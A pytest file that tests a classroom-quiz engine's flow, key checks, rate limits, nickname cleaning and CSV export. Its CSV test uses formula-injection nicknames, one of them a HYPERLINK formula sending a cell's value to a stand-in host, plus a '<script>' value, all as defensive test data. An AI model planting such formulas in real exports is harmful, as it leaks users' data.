"""Class mode's engine on both databases: SQLite (a temp file) and PostgreSQL (a throw-away
cluster from tests/postgres.py; skipped with the reason when its binaries are missing)."""

from __future__ import annotations

import csv
import io
import threading
import time
from collections.abc import Callable

import pytest

from tests.postgres import create_database, postgres_url  # noqa: F401  (fixture)
from torchatlas.classmode import (
    ALPHABET,
    ClassError,
    ClassStore,
    ErrorCode,
    Limits,
    clean,
)
from torchatlas.lessons import find

LESSON = "broadcasting"  # three steps, each with a question


class Clock:
    """Wall time the test moves by hand."""

    def __init__(self) -> None:
        self.now = 1_800_000_000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request: pytest.FixtureRequest, tmp_path) -> str:  # type: ignore[no-untyped-def]
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'classes.sqlite3'}"
    return create_database(request.getfixturevalue("postgres_url"))


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def make(db_url: str, clock: Clock) -> Callable[..., ClassStore]:
    """A store on this test's database (call again for a second replica / a restart)."""
    return lambda **limits: ClassStore(db_url, clock=clock, limits=Limits(**limits))


def refused(code: ErrorCode, call: Callable[[], object]) -> ClassError:
    with pytest.raises(ClassError) as caught:
        call()
    assert caught.value.code == code, (caught.value.code, caught.value.params)
    return caught.value


def go_to(store: ClassStore, teacher, number: int):  # type: ignore[no-untyped-def]
    step = find(LESSON).step(number)
    return store.move(
        teacher.code, teacher.teacher_key, step=number, room=step.room, query=step.fields()
    )


# --------------------------------------------------------------------------- the whole flow


def test_a_class_follows_answers_and_is_summarised(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    lesson = find(LESSON)
    teacher = store.start(LESSON, "ko", client="teacher")
    state = store.state(teacher.code)
    assert (state.step, state.room, state.query, state.lang) == (0, "", (), "ko")
    ada = store.join(teacher.code.lower(), "Ada", client="a")  # codes are case-insensitive
    bob = store.join(teacher.code, "Bob", client="b")
    cy = store.join(teacher.code, "Cy", client="c")
    assert store.state(teacher.code).students == 3
    before = store.version(teacher.code)

    state = go_to(store, teacher, 1)
    step = lesson.step(1)
    assert (state.step, state.room, state.fields()) == (1, step.room, step.fields())
    assert state.version == before + 1 and store.version(teacher.code) == before + 1
    assert not state.asked and state.options == step.question.options and state.correct is None
    refused(ErrorCode.NOT_ASKED, lambda: store.answer(teacher.code, ada.student_key, 0))

    state = store.ask(teacher.code, teacher.teacher_key)
    assert state.asked and not state.revealed and state.version == before + 2
    right = step.question.answer
    wrong = (right + 1) % len(step.question.options)
    store.answer(teacher.code, ada.student_key, wrong)
    store.answer(teacher.code, ada.student_key, right)  # changed before the reveal
    store.answer(teacher.code, bob.student_key, wrong)
    tally = store.tally(teacher.code, teacher.teacher_key)
    expected = [0] * len(step.question.options)
    expected[right] += 1
    expected[wrong] += 1
    assert (tally.joined, tally.answered, tally.counts) == (3, 2, tuple(expected))
    assert tally.correct == right and tally.share_correct == pytest.approx(0.5)
    assert store.state(teacher.code).correct is None  # students learn it only at the reveal

    state = store.reveal(teacher.code, teacher.teacher_key)
    assert state.revealed and state.correct == right
    refused(ErrorCode.ALREADY_REVEALED, lambda: store.answer(teacher.code, bob.student_key, right))
    refused(ErrorCode.ALREADY_REVEALED, lambda: store.answer(teacher.code, cy.student_key, right))
    refused(ErrorCode.ALREADY_REVEALED, lambda: store.ask(teacher.code, teacher.teacher_key))
    assert store.tally(teacher.code, teacher.teacher_key).counts == tuple(expected)

    go_to(store, teacher, 2)
    store.ask(teacher.code, teacher.teacher_key)
    second = lesson.step(2).question
    store.answer(teacher.code, cy.student_key, second.answer)
    assert store.student(teacher.code, ada.student_key).answers == ((1, right),)
    assert store.student(teacher.code, cy.student_key).answers == ((2, second.answer),)
    # The tally of an earlier step on request; the current one by default.
    assert store.tally(teacher.code, teacher.teacher_key, step=1).answered == 2
    assert store.tally(teacher.code, teacher.teacher_key).counts[second.answer] == 1

    summary = store.summary(teacher.code, teacher.teacher_key)
    assert [q.step for q in summary] == [1, 2]
    assert summary[0].revealed and not summary[1].revealed
    assert summary[0].counts == tuple(expected) and summary[0].correct == right
    assert summary[1].answered == 1 and summary[1].share_correct == 1.0

    rows = list(csv.reader(io.StringIO(store.summary_csv(teacher.code, teacher.teacher_key))))
    assert rows[0] == ["nickname", "step_1", "step_1_right", "step_2", "step_2_right",
                       "right_total"]  # fmt: skip
    by_name = {row[0]: row for row in rows[1:-1]}
    assert by_name["Ada"][1:3] == [step.question.options[right], "1"]
    assert by_name["Bob"][1:3] == [step.question.options[wrong], "0"]
    assert by_name["Cy"][3:] == [second.options[second.answer], "1", "1"]
    assert rows[-1][0] == "share_right" and rows[-1][2] == "0.500"

    store.end(teacher.code, teacher.teacher_key)
    state = store.state(teacher.code)
    assert state.ended and state.version > before + 4
    refused(ErrorCode.CLASS_ENDED, lambda: store.join(teacher.code, "Late", client="d"))
    refused(ErrorCode.CLASS_ENDED, lambda: go_to(store, teacher, 3))
    assert len(store.summary(teacher.code, teacher.teacher_key)) == 2  # kept for the teacher


def test_free_class_has_no_questions(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(None, "en", client="t")
    state = store.move(
        teacher.code, teacher.teacher_key, step=1, room="strides",
        query={"s_shape": "9", "s_ops": [".view(3, 3)", "[1:, 1:]"], "lang": "ko"},
    )  # fmt: skip
    # The reader's language is theirs: "lang" is not part of the class's place.
    assert state.fields() == {"s_shape": "9", "s_ops": [".view(3, 3)", "[1:, 1:]"]}
    refused(ErrorCode.NO_QUESTION, lambda: store.ask(teacher.code, teacher.teacher_key))
    tally = store.tally(teacher.code, teacher.teacher_key)
    assert tally.counts == () and tally.correct is None


def test_unknown_lesson_and_language(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    refused(ErrorCode.NO_SUCH_LESSON, lambda: store.start("no_such", "en", client="t"))
    refused(ErrorCode.NO_SUCH_LESSON, lambda: store.start("x" * 1000, "en", client="t"))
    teacher = store.start(LESSON, "<script>", client="t")
    assert store.state(teacher.code).lang == "en"


# --------------------------------------------------------------------------- places


def test_bad_places_are_refused(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    lesson_steps = len(find(LESSON).steps)

    def move(step: object = 1, room: object = "strides", query: object = None) -> object:
        return store.move(
            teacher.code, teacher.teacher_key, step=step, room=room, query=query or {}
        )

    refused(ErrorCode.BAD_PLACE, lambda: move(room="nowhere"))
    refused(ErrorCode.BAD_PLACE, lambda: move(room=["strides"]))
    refused(ErrorCode.BAD_PLACE, lambda: move(query={"a_prog": "x"}))  # autograd's field
    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_shape": ["9", "3"]}))  # not repeated
    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_shape": 9}))
    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_ops": ["x"] * 41}))
    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_shape": "9" * 9000}))
    refused(ErrorCode.BAD_PLACE, lambda: move(query={f"k{i}": "1" for i in range(41)}))
    refused(ErrorCode.BAD_PLACE, lambda: move(query=[("s_shape", "9")]))
    refused(ErrorCode.BAD_PLACE, lambda: move(step=lesson_steps + 1))
    refused(ErrorCode.BAD_PLACE, lambda: move(step=-1))
    refused(ErrorCode.BAD_PLACE, lambda: move(step=True))
    refused(ErrorCode.BAD_PLACE, lambda: move(step="1"))
    assert store.version(teacher.code) == 1  # nothing refused changed the class
    refused(ErrorCode.BAD_PLACE, lambda: move(query={"m_src": "x"}))  # shapes' source field
    state = move(query={"s_shape": "9"})
    assert state.version == 2
    # The source field of a room that has one travels with the place.
    state = move(room="shapes", query={"m_src": "abc", "lesson": LESSON, "step": "1"})
    assert dict(state.query)["m_src"] == "abc"


# --------------------------------------------------------------------------- codes and keys


def test_codes_use_the_alphabet_only() -> None:
    codes = {clean.new_code() for _ in range(3000)}
    assert len(codes) > 2990  # random: clashes are ~1 in a million pairs
    assert all(len(code) == 6 and set(code) <= set(ALPHABET) for code in codes)
    assert set("".join(codes)) == set(ALPHABET)  # every letter is used
    assert not set(ALPHABET) & set("0O1I")


def test_malformed_codes_never_reach_the_database(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(None, "en", client="t")
    from torchatlas.classmode import store as module

    def no_database(*args: object, **kwargs: object) -> object:
        raise AssertionError("the database was asked")

    monkeypatch.setattr(module, "read", no_database)
    monkeypatch.setattr(module, "write", no_database)
    for code in ["ABCDE", "ABCDEFG", "ABCDE0", "ABCDEO", "ABCDE1", "ABCDEI", "ÄBCDEF",
                 "ABC EF", "", None, 123456, ["ABCDEF"], "ＡＢＣＤＥＦ"]:  # fmt: skip
        refused(ErrorCode.NO_SUCH_CLASS, lambda code=code: store.version(code))
        refused(ErrorCode.NO_SUCH_CLASS, lambda code=code: store.join(code, "x", client="c"))
        refused(ErrorCode.NO_SUCH_CLASS, lambda code=code: store.state(code))
        assert store.is_teacher(code, teacher.teacher_key) is False
    # A well-formed code with a key that cannot be one is refused before the database too.
    refused(ErrorCode.NOT_TEACHER, lambda: store.ask(teacher.code, "short"))
    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(teacher.code, "x" * 65, 0))


def test_a_valid_but_unknown_code(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.version("ABCDEF"))
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.state("ABCDEF"))
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.join("ABCDEF", "x", client="c"))


def _keyed_calls(store: ClassStore) -> dict[str, Callable[[str, str], object]]:
    """Every call that takes a code and a key, by name."""
    return {
        "student": lambda c, k: store.student(c, k),
        "answer": lambda c, k: store.answer(c, k, 0),
        "move": lambda c, k: store.move(c, k, step=1, room="devices", query={}),
        "ask": lambda c, k: store.ask(c, k),
        "reveal": lambda c, k: store.reveal(c, k),
        "end": lambda c, k: store.end(c, k),
        "tally": lambda c, k: store.tally(c, k),
        "summary": lambda c, k: store.summary(c, k),
        "summary_csv": lambda c, k: store.summary_csv(c, k),
        "roster": lambda c, k: store.roster(c, k),
        "remove": lambda c, k: store.remove(c, k, "0" * 16),
        "lock": lambda c, k: store.lock(c, k, True),
    }


def test_an_unknown_code_and_a_wrong_key_get_one_answer(make) -> None:  # type: ignore[no-untyped-def]
    """No keyed call tells a code that exists from one that does not: the same code and the
    same text for an unknown code, an expired one, a malformed one and a wrong key."""
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    pupil = store.join(teacher.code, "Ada", client="a")
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    unknown = next(c for c in ("ABCDEF", "ABCDEG") if c != teacher.code)
    wrong = "W" * 32
    for name, call in _keyed_calls(store).items():
        student = name in ("student", "answer")
        right = pupil.student_key if student else teacher.teacher_key
        forged = right[:-1] + ("x" if right[-1] != "x" else "y")
        seen = set()
        for code, key in [
            (unknown, right),  # no such class
            (teacher.code, forged),  # the class, a wrong key
            (teacher.code.lower(), wrong),
            (unknown, wrong),
            ("ABCDE0", right),  # malformed: refused before the database, alike
        ]:
            with pytest.raises(ClassError) as caught:
                call(code, key)
            error = caught.value
            seen.add((error.code, tuple(error.params.items()), error.text("en"), error.text("ko")))
        expected = ErrorCode.NOT_STUDENT if student else ErrorCode.NOT_TEACHER
        assert len(seen) == 1 and next(iter(seen))[0] == expected, (name, seen)
    assert not store.is_teacher(unknown, teacher.teacher_key)
    assert not store.is_teacher(teacher.code, wrong)
    assert store.state(teacher.code).version == 3  # nothing refused changed the class


def test_only_the_teacher_key_drives_the_class(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    other = store.start(LESSON, "en", client="t")
    pupil = store.join(teacher.code, "Eve", client="e")
    key = teacher.teacher_key
    same_length = ("A" if key[0] != "A" else "B") + key[1:]
    assert len(same_length) == len(key)
    for wrong in [same_length, other.teacher_key, pupil.student_key, key.lower() + "x", ""]:
        refused(
            ErrorCode.NOT_TEACHER,
            lambda w=wrong: store.move(teacher.code, w, step=1, room="devices", query={}),
        )
        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.ask(teacher.code, w))
        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.reveal(teacher.code, w))
        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.tally(teacher.code, w))
        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.summary(teacher.code, w))
        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.summary_csv(teacher.code, w))
        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.end(teacher.code, w))
        assert not store.is_teacher(teacher.code, wrong)
    assert store.version(teacher.code) == 1 and not store.state(teacher.code).ended
    assert store.is_teacher(teacher.code, key) and store.is_teacher(teacher.code.lower(), key)

    # The comparison is hmac.compare_digest's (constant time), on the key's digest.
    calls: list[tuple[bytes, bytes]] = []
    real = clean.hmac.compare_digest

    def spy(a: bytes, b: bytes) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(clean.hmac, "compare_digest", spy)
    assert store.is_teacher(teacher.code, key)
    refused(ErrorCode.NOT_TEACHER, lambda: store.ask(teacher.code, same_length))
    assert len(calls) == 2 and all(len(a) == len(b) == 64 for a, b in calls)


def test_a_student_key_acts_only_for_its_student_in_its_class(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    first = store.start(LESSON, "en", client="t")
    second = store.start(LESSON, "en", client="t")
    ann = store.join(first.code, "Ann", client="a")
    ben = store.join(first.code, "Ben", client="b")
    for teacher in (first, second):
        go_to(store, teacher, 1)
        store.ask(teacher.code, teacher.teacher_key)
    store.answer(first.code, ann.student_key, 2)
    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(second.code, ann.student_key, 1))
    refused(ErrorCode.NOT_STUDENT, lambda: store.student(second.code, ann.student_key))
    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(first.code, first.teacher_key, 1))
    forged = ("A" if ann.student_key[0] != "A" else "B") + ann.student_key[1:]
    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(first.code, forged, 1))
    store.answer(first.code, ben.student_key, 0)
    assert store.student(first.code, ann.student_key).answers == ((1, 2),)
    assert store.student(first.code, ben.student_key).answers == ((1, 0),)
    assert store.tally(second.code, second.teacher_key).answered == 0


def test_answers_must_be_one_of_the_options(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    pupil = store.join(teacher.code, "", client="p")
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    count = len(find(LESSON).step(1).question.options)
    for bad in [-1, count, 10**30, True, "1", 1.0, None]:
        refused(
            ErrorCode.BAD_OPTION, lambda b=bad: store.answer(teacher.code, pupil.student_key, b)
        )
    assert store.tally(teacher.code, teacher.teacher_key).answered == 0
    store.answer(teacher.code, pupil.student_key, count - 1)
    assert store.tally(teacher.code, teacher.teacher_key).counts[count - 1] == 1


# --------------------------------------------------------------------------- nicknames


def test_look_alike_nicknames_are_one_nickname(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(None, "en", client="t")

    def join(name: str, n: list[int] = [0]) -> str:  # noqa: B006  (a counter)
        n[0] += 1
        return store.join(teacher.code, name, client=f"c{n[0]}").nickname

    assert join("Ada") == "Ada"
    assert join("\u0410da") == "\u0410da 2"  # Cyrillic А
    assert join("ａｄａ") == "ada 3"  # full-width (NFKC)
    assert join("\U0001d41a\U0001d41d\U0001d41a") == "ada 4"  # mathematical bold
    assert join("paypal") == "paypal"
    assert join("p\u0430yp\u0430l") == "p\u0430yp\u0430l 2"  # Cyrillic а twice
    assert join("\u0440aypal") == "\u0440aypal 3"  # Cyrillic р
    assert join("Il") == "Il"
    assert join("ll") == "ll 2"  # capital I and small l
    assert join("민지") == "민지" and join("민자") == "민자"  # different names stay apart
    assert clean.fold("Ada") == clean.fold("\u0410DA") == clean.fold("ａｄａ")
    assert clean.fold("paypal") == clean.fold("p\u0430yp\u0430l")
    assert clean.fold("rn") == clean.fold("m")
    assert clean.fold("Ada") != clean.fold("Adam")


def test_combining_marks_are_bounded() -> None:
    import unicodedata

    limit = 24
    zalgo = "Z" + "\u0301\u0302\u0303\u0304\u0305" * 8 + "oe"
    cleaned = clean.clean_nickname(zalgo, limit)
    marks = [ch for ch in unicodedata.normalize("NFD", cleaned) if unicodedata.combining(ch)]
    assert len(marks) == 2, cleaned
    assert unicodedata.normalize("NFD", cleaned) == "Z\u0301\u0302oe"
    assert clean.clean_nickname("Việt Nguyễn", limit) == "Việt Nguyễn"  # two marks: kept
    assert clean.clean_nickname("\u0301\u0301Ada", limit) == "Ada"  # marks with no base
    assert clean.clean_nickname("한국어 이름", limit) == "한국어 이름"
    assert clean.clean_nickname("ก\u0e34\u0e48\u0e48\u0e48", limit) == "ก\u0e34\u0e48"  # Thai


def test_nicknames_are_cleaned() -> None:
    limit = 24
    assert clean.clean_nickname("Ａｄａ", limit) == "Ada"  # NFKC: full-width letters
    assert clean.clean_nickname("  A\u202eda\u200b\u0000  ", limit) == "Ada"  # bidi, ZW, NUL
    assert clean.clean_nickname("Ada \t\n  Love\u00a0lace", limit) == "Ada Love lace"
    assert clean.clean_nickname("x" * 30, limit) == "x" * 24
    assert clean.clean_nickname("\u200b\u2066", limit) == ""
    assert clean.clean_nickname(None, limit) == ""
    assert clean.clean_nickname("한국어 이름", limit) == "한국어 이름"
    for bad in ["x" * 201, 12, b"Ada", ["Ada"]]:
        refused(ErrorCode.BAD_NICKNAME, lambda b=bad: clean.clean_nickname(b, limit))


def test_nicknames_are_unique_in_a_class(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(None, "en", client="t")
    names = [
        store.join(teacher.code, raw, client=f"c{i}").nickname
        for i, raw in enumerate(
            ["Ada", "ADA", " ada ", "Ａｄａ", "", None, "Student 3", "z" * 24, "Z" * 24]
        )
    ]
    assert names[:4] == ["Ada", "ADA 2", "ada 3", "Ada 4"]
    assert names[4:6] == ["Student 5", "Student 6"]
    assert names[6] == "Student 3"
    assert names[7:] == ["z" * 24, "Z" * 22 + " 2"]
    assert all(len(name) <= 24 for name in names)
    other = store.start(None, "en", client="t")  # another class may have its own Ada
    assert store.join(other.code, "Ada", client="x").nickname == "Ada"


def test_csv_neutralises_formulas_and_carries_no_keys(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)",
               " =1+1", "＝1+1"]  # fmt: skip
    keys = []
    for i, name in enumerate(hostile):
        pupil = store.join(teacher.code, name, client=f"c{i}")
        keys.append(pupil.student_key)
        store.answer(teacher.code, pupil.student_key, 0)
    text = store.summary_csv(teacher.code, teacher.teacher_key)
    assert not any(key in text for key in [*keys, teacher.teacher_key])
    rows = list(csv.reader(io.StringIO(text)))
    cells = [row[0] for row in rows[1:-1]]
    assert len(cells) == len(hostile)
    for cell in cells:
        assert cell.startswith("'"), cell
        assert cell[1:].lstrip()[0] in "=+-@"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --------------------------------------------------------------------------- abuse limits


def test_joins_are_rate_limited_per_client(make, clock) -> None:  # type: ignore[no-untyped-def]
    store = make(joins_per_minute=5)
    teacher = store.start(None, "en", client="laptop")
    unknown = next(c for c in ("ABCDEF", "ABCDEG") if c != teacher.code)
    for _ in range(2):
        refused(ErrorCode.NO_SUCH_CLASS, lambda: store.join(unknown, "x", client="laptop"))
        store.join(teacher.code, "x", client="laptop")
    store.join(teacher.code, "x", client="laptop")  # 5 joins in the minute
    # The wrong codes counted too: guessing codes is what the limit slows.
    error = refused(ErrorCode.RATE_LIMITED, lambda: store.join(teacher.code, "y", client="laptop"))
    assert error.params["limit"] == "5" and 1 <= int(error.params["seconds"]) <= 60
    refused(ErrorCode.RATE_LIMITED, lambda: store.join(unknown, "y", client="laptop"))
    # Starts have a budget of their own: a class's joins do not lock its teacher out.
    store.start(None, "en", client="laptop")
    store.join(teacher.code, "z", client="someone else")
    clock.now += 61
    store.join(teacher.code, "w", client="laptop")


def test_the_default_join_rate_lets_a_school_network_in_within_a_minute(make, clock) -> None:  # type: ignore[no-untyped-def]
    """Sixty phones behind one address (a school's NAT) join within a minute on the default
    limits; the sixty-first seat from that address is refused, a phone elsewhere still joins."""
    store = make()
    teacher = store.start(None, "en", client="teacher's laptop")
    for i in range(60):
        store.join(teacher.code, f"phone {i}", client="ip:203.0.113.7")
        clock.now += 0.9
    clock.now += 61
    refused(
        ErrorCode.TOO_MANY_SEATS, lambda: store.join(teacher.code, "x", client="ip:203.0.113.7")
    )
    store.join(teacher.code, "home", client="ip:198.51.100.9")
    assert store.state(teacher.code).students == 61


def test_one_client_cannot_take_a_class(make, clock) -> None:  # type: ignore[no-untyped-def]
    """The red team's laptop: 130 joins from fresh sessions on one address. Sessions do not
    matter (the client is the address): at most ``seats_per_client`` seats, at most
    ``joins_per_minute`` tries a minute, and a second client still joins."""
    store = make()  # the defaults: 120 seats, 60 per client, 60 joins a minute per client
    teacher = store.start(None, "en", client="teacher")
    outcomes: dict[str, int] = {}
    for i in range(130):
        try:
            store.join(teacher.code, f"bot{i}", client="ip:127.0.0.2")
            outcomes["joined"] = outcomes.get("joined", 0) + 1
        except ClassError as error:
            outcomes[error.code] = outcomes.get(error.code, 0) + 1
        clock.now += 0.5
    assert outcomes["joined"] == 60, outcomes
    assert set(outcomes) == {"joined", ErrorCode.RATE_LIMITED, ErrorCode.TOO_MANY_SEATS}
    clock.now += 61
    error = refused(
        ErrorCode.TOO_MANY_SEATS, lambda: store.join(teacher.code, "bot", client="ip:127.0.0.2")
    )
    assert error.params == {"limit": "60"}
    store.join(teacher.code, "Real Ada", client="ip:198.51.100.9")
    assert store.state(teacher.code).students == 61
    # Without the rate limit in the way, the seats alone stop one client at 60.
    other = make(joins_per_minute=1000)
    second = other.start(None, "en", client="teacher 2")
    for i in range(60):
        other.join(second.code, f"bot{i}", client="ip:127.0.0.3")
    refused(ErrorCode.TOO_MANY_SEATS, lambda: other.join(second.code, "b", client="ip:127.0.0.3"))
    other.join(second.code, "Bo", client="ip:127.0.0.4")


def test_failed_link_checks_count_toward_the_join_limit(make, clock) -> None:  # type: ignore[no-untyped-def]
    store = make(joins_per_minute=5)
    teacher = store.start(LESSON, "en", client="teacher")
    pupil = store.join(teacher.code, "Ada", client="ada's phone")
    unknown = next(c for c in ("ABCDEF", "ABCDEG") if c != teacher.code)
    for code in (unknown, teacher.code, unknown):  # unknown code, wrong key: both counted
        refused(ErrorCode.NOT_STUDENT, lambda c=code: store.student(c, "K" * 24, client="probe"))
    assert not store.is_teacher(unknown, "K" * 32, client="probe")
    assert not store.is_teacher(teacher.code, "K" * 32, client="probe")
    # Five failed checks: the next check and the next join are refused for a minute.
    error = refused(
        ErrorCode.RATE_LIMITED, lambda: store.student(unknown, "K" * 24, client="probe")
    )
    assert error.params["limit"] == "5"
    refused(ErrorCode.RATE_LIMITED, lambda: store.join(teacher.code, "x", client="probe"))
    # A right link is never refused (nor counted): a reload behind a busy address works.
    assert store.student(teacher.code, pupil.student_key, client="probe").nickname == "Ada"
    assert store.is_teacher(teacher.code, teacher.teacher_key, client="probe")
    # The page's own reads of a held key (no client) are not link checks.
    for _ in range(10):
        refused(ErrorCode.NOT_STUDENT, lambda: store.student(unknown, "K" * 24))
    store.join(teacher.code, "other", client="another phone")
    clock.now += 61
    refused(ErrorCode.NOT_STUDENT, lambda: store.student(unknown, "K" * 24, client="probe"))


def test_starts_are_limited_per_client(make, clock) -> None:  # type: ignore[no-untyped-def]
    store = make()  # 3 starts a minute, 5 live classes per client
    for _ in range(3):
        store.start(None, "en", client="ip:127.0.0.1")
    error = refused(ErrorCode.RATE_LIMITED, lambda: store.start(None, "en", client="ip:127.0.0.1"))
    assert error.params["limit"] == "3"
    store.start(None, "en", client="ip:192.0.2.1")  # another client
    clock.now += 61
    teachers = [store.start(None, "en", client="ip:127.0.0.1") for _ in range(2)]
    clock.now += 61
    error = refused(
        ErrorCode.TOO_MANY_OWN_CLASSES, lambda: store.start(None, "en", client="ip:127.0.0.1")
    )
    assert error.params == {"limit": "5"}
    store.end(teachers[0].code, teachers[0].teacher_key)  # an ended class frees its place
    store.start(None, "en", client="ip:127.0.0.1")


def test_live_classes_per_client_are_capped(make, clock) -> None:  # type: ignore[no-untyped-def]
    store = make(classes_per_client=3, starts_per_minute=100, untaught_minutes=30)
    for _ in range(3):
        store.start(None, "en", client="student's laptop")
    refused(
        ErrorCode.TOO_MANY_OWN_CLASSES, lambda: store.start(None, "en", client="student's laptop")
    )
    store.start(None, "en", client="the teacher")
    # Classes nobody taught expire after half an hour, and free their client's places.
    clock.now += 31 * 60
    store.start(None, "en", client="student's laptop")


def test_a_start_password_when_the_server_sets_one(db_url, clock, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    store = ClassStore(db_url, clock=clock, start_secret="correct horse")
    assert store.start_secret_required
    refused(ErrorCode.BAD_START_SECRET, lambda: store.start(None, "en", client="c"))
    refused(ErrorCode.BAD_START_SECRET, lambda: store.start(None, "en", client="c", secret="x"))
    store.start(None, "en", client="c", secret="correct horse")
    # Wrong passwords count toward the start limit: guessing it is slow.
    refused(ErrorCode.RATE_LIMITED, lambda: store.start(None, "en", client="c", secret="x"))
    monkeypatch.setenv("ATLAS_START_SECRET", "from the setting")
    assert ClassStore(db_url, clock=clock).start_secret_required
    ClassStore(db_url, clock=clock).start(None, "en", client="d", secret="from the setting")
    monkeypatch.setenv("ATLAS_START_SECRET", "")
    assert not ClassStore(db_url, clock=clock).start_secret_required
    monkeypatch.delenv("ATLAS_START_SECRET")
    ClassStore(db_url, clock=clock).start(None, "en", client="e")


def test_live_classes_are_limited(make) -> None:  # type: ignore[no-untyped-def]
    store = make(max_classes=3)
    teachers = [store.start(None, "en", client=f"t{i}") for i in range(3)]
    error = refused(ErrorCode.TOO_MANY_CLASSES, lambda: store.start(None, "en", client="t9"))
    assert error.params == {"limit": "3"}
    store.end(teachers[0].code, teachers[0].teacher_key)  # an ended class frees its place
    store.start(None, "en", client="t9")
    refused(ErrorCode.TOO_MANY_CLASSES, lambda: store.start(None, "en", client="t10"))


def test_students_per_class_are_limited(make) -> None:  # type: ignore[no-untyped-def]
    store = make(max_students=3)
    teacher = store.start(None, "en", client="t")
    for i in range(3):
        store.join(teacher.code, f"s{i}", client=f"c{i}")
    error = refused(ErrorCode.CLASS_FULL, lambda: store.join(teacher.code, "s4", client="c4"))
    assert error.params == {"limit": "3"}
    assert store.state(teacher.code).students == 3


def test_idle_classes_expire(make, clock) -> None:  # type: ignore[no-untyped-def]
    store = make(idle_hours=3)
    idle = store.start(LESSON, "en", client="t")
    go_to(store, idle, 1)  # taught, then left
    pupil = store.join(idle.code, "Ann", client="a")
    busy = store.start(None, "en", client="t")
    store.move(busy.code, busy.teacher_key, step=1, room="devices", query={})
    clock.now += 2 * 3600
    store.move(busy.code, busy.teacher_key, step=2, room="devices", query={})
    assert store.expire_idle() == 0
    clock.now += 3600 + 1  # idle: 3 h 1 s; busy: 1 h 1 s
    assert store.expire_idle() == 1
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.state(idle.code))
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.version(idle.code))
    refused(ErrorCode.NOT_STUDENT, lambda: store.student(idle.code, pupil.student_key))
    assert store.state(busy.code).step == 2
    assert make().expire_idle() == 0  # another replica finds nothing more to do


def test_a_class_lives_by_its_teacher_not_by_joins(make, clock) -> None:  # type: ignore[no-untyped-def]
    """Joins do not keep a class alive: only its teacher's changes and tally watching do."""
    store = make(idle_hours=3)
    left = store.start(LESSON, "en", client="t")
    go_to(store, left, 1)
    watched = store.start(LESSON, "en", client="t")
    go_to(store, watched, 1)
    for i in range(6):  # a join every half hour for three hours
        clock.now += 1800
        store.join(left.code, f"s{i}", client=f"c{i}")
        store.tally(watched.code, watched.teacher_key)  # the teacher's page is open
    clock.now += 1
    assert store.expire_idle() == 1
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.state(left.code))
    assert store.state(watched.code).step == 1


def test_untaught_classes_expire_early(make, clock) -> None:  # type: ignore[no-untyped-def]
    store = make(untaught_minutes=30)
    untaught = store.start(LESSON, "en", client="t")
    taught = store.start(LESSON, "en", client="t")
    free = store.start(None, "en", client="t")
    clock.now += 10 * 60
    go_to(store, taught, 1)
    store.move(free.code, free.teacher_key, step=1, room="devices", query={})
    store.join(untaught.code, "Early", client="e")  # a join is not the teacher's doing
    clock.now += 19 * 60
    assert store.expire_idle() == 0
    clock.now += 2 * 60  # 31 minutes after the start, 21 after the moves
    assert store.expire_idle() == 1
    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.state(untaught.code))
    assert store.state(taught.code).step == 1 and store.state(free.code).step == 1


# --------------------------------------------------------------------------- the teacher's class


def test_the_teacher_sees_removes_and_locks(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="teacher")
    ada = store.join(teacher.code, "Ada", client="a")
    bob = store.join(teacher.code, "Bob", client="b")
    roster = store.roster(teacher.code, teacher.teacher_key)
    assert [(r.nickname, r.joined) for r in roster] == [
        ("Ada", store.clock()),
        ("Bob", store.clock()),
    ]
    assert len({r.student_id for r in roster}) == 2
    for entry in roster:  # an opaque id: not a key, not a key's digest
        assert entry.student_id not in (ada.student_key, bob.student_key)
        assert entry.student_id not in (
